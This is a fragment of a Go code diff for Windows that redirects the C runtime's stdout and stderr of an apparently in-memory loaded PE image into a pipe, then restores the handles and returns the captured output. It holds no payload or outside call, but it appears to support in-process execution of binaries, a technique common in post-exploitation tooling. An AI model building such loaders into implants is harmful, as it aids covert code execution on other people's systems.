+	var duplicate windows.Handle
+	err := windows.DuplicateHandle(process, handle, process, &duplicate, 0, false, windows.DUPLICATE_SAME_ACCESS)
+	if err != nil {
+		return nil, err
+	}
+	fd, _, _ := syscall.Syscall(procs["_open_osfhandle"], 2, uintptr(duplicate), 0, 0)
+	streams := &crtStreams{
+		dup2:   procs["_dup2"],
+		close:  procs["_close"],
+		fflush: procs["fflush"],
+		fd:     int(int32(fd)),
+	}
+	if streams.fd < 0 {
+		windows.CloseHandle(duplicate)
+		return nil, errors.New("_open_osfhandle failed")
+	}
+	syscall.Syscall(streams.fflush, 1, 0, 0, 0)
+	for index, std := range []uintptr{1, 2} {
+		saved, _, _ := syscall.Syscall(procs["_dup"], 1, std, 0, 0)
+		streams.saved[index] = int(int32(saved))
+		syscall.Syscall(streams.dup2, 2, uintptr(streams.fd), std, 0)
+	}
+	return streams, nil
+}
+
+// restore - Put the standard handles back and return everything written to
+// the pipe, a thread left behind by the image may still hold it open so
+// output is only waited on for a moment
+func (o *peOutput) restore() string {
+	for _, streams := range o.crts {
+		syscall.Syscall(streams.fflush, 1, 0, 0, 0)
+		for index, std := range []uintptr{1, 2} {
+			if 0 <= streams.saved[index] {
+				syscall.Syscall(streams.dup2, 2, uintptr(streams.saved[index]), std, 0)
+				syscall.Syscall(streams.close, 1, uintptr(streams.saved[index]), 0, 0)
+			} else {
+				syscall.Syscall(streams.close, 1, std, 0, 0)
+			}
+		}
+		syscall.Syscall(streams.close, 1, uintptr(streams.fd), 0, 0)
+	}
+	windows.SetStdHandle(windows.STD_OUTPUT_HANDLE, o.stdout)
+	windows.SetStdHandle(windows.STD_ERROR_HANDLE, o.stderr)
+	windows.CloseHandle(o.write)
+	select {
+	case <-o.done:
+	case <-time.After(2 * time.Second):
+	}
+	o.mutex.Lock()
+	defer o.mutex.Unlock()
+	return o.buf.String()
+}